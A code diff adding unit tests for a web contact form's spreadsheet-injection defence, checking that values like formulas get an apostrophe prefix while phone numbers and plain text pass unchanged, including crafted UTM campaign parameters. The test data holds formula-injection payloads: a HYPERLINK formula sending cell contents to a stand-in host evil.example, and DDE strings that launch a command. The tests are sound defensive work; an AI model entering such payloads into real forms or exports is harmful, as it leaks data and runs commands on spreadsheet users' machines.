@@ -1,4 +1,5 @@
-import { SIMULATED_DELAY_MS, submitForm, TIMEOUT_MS, toFormData } from './submit';
+import { attributionFields, rememberVisit, visitFrom } from './attribution';
+import { asCellText, SIMULATED_DELAY_MS, submitForm, TIMEOUT_MS, toFormData } from './submit';
 
 const ENDPOINT = 'https://forms.example/f/abc';
 
@@ -125,5 +126,50 @@ describe('toFormData', () => {
     expect(data.get('name')).toBe('Ravigpj.exe');
     expect(data.get('message')).toBe('abc');
     expect(data.get('form')).toBe('contact');
+  });
+});
+
+describe('what is sent opens as text in a spreadsheet', () => {
+  it.each([
+    ['=HYPERLINK("https://evil.example/?"&A1,"Open CV")', '\'=HYPERLINK("https://evil.example/?"&A1,"Open CV")'],
+    ['+cmd|" /C calc"!A0', '\'+cmd|" /C calc"!A0'],
+    ['-2+3+cmd|" /C calc"!A0', '\'-2+3+cmd|" /C calc"!A0'],
+    ['@SUM(1+1)*cmd|" /C calc"!A0', '\'@SUM(1+1)*cmd|" /C calc"!A0'],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+    ['  =1+1', "'  =1+1"],
+  ])('puts an apostrophe before a value a spreadsheet would run: %j', (typed, sent) => {
+    expect(asCellText(typed)).toBe(sent);
+  });
+
+  it.each(['+91 98765 43210', '-', '(011) 4567-8900', 'Meera Nair', 'a=b', 'Ravi + team', 'rahul@example.in', ''])(
+    'sends a phone number and plain text as typed: %j',
+    (typed) => {
+      expect(asCellText(typed)).toBe(typed);
+    },
+  );
+
+  it('neutralises a typed field and the attribution of a crafted campaign link alike', () => {
+    const link = {
+      origin: 'https://quantivo.example',
+      pathname: '/services/',
+      search: '?utm_source==HYPERLINK("https://evil.example","Verified")&utm_campaign=@SUM(1)&utm_medium=email',
+    };
+    const visit = rememberVisit(null, visitFrom(link, 'https://news.example/a?b=c'));
+    const data = toFormData('contact', {
+      name: '=1+1',
+      phone: '+91 98765 43210',
+      ...attributionFields(visit, '/'),
+    });
+    expect(Object.fromEntries([...data.entries()])).toMatchObject({
+      name: "'=1+1",
+      phone: '+91 98765 43210',
+      utm_source: '\'=HYPERLINK("https://evil.example","Verified")',
+      utm_campaign: "'@SUM(1)",
+      utm_medium: 'email',
+      landing_page: '/services/',
+      referrer_origin: 'https://news.example',
+      form_page: '/',
+    });
   });
 });
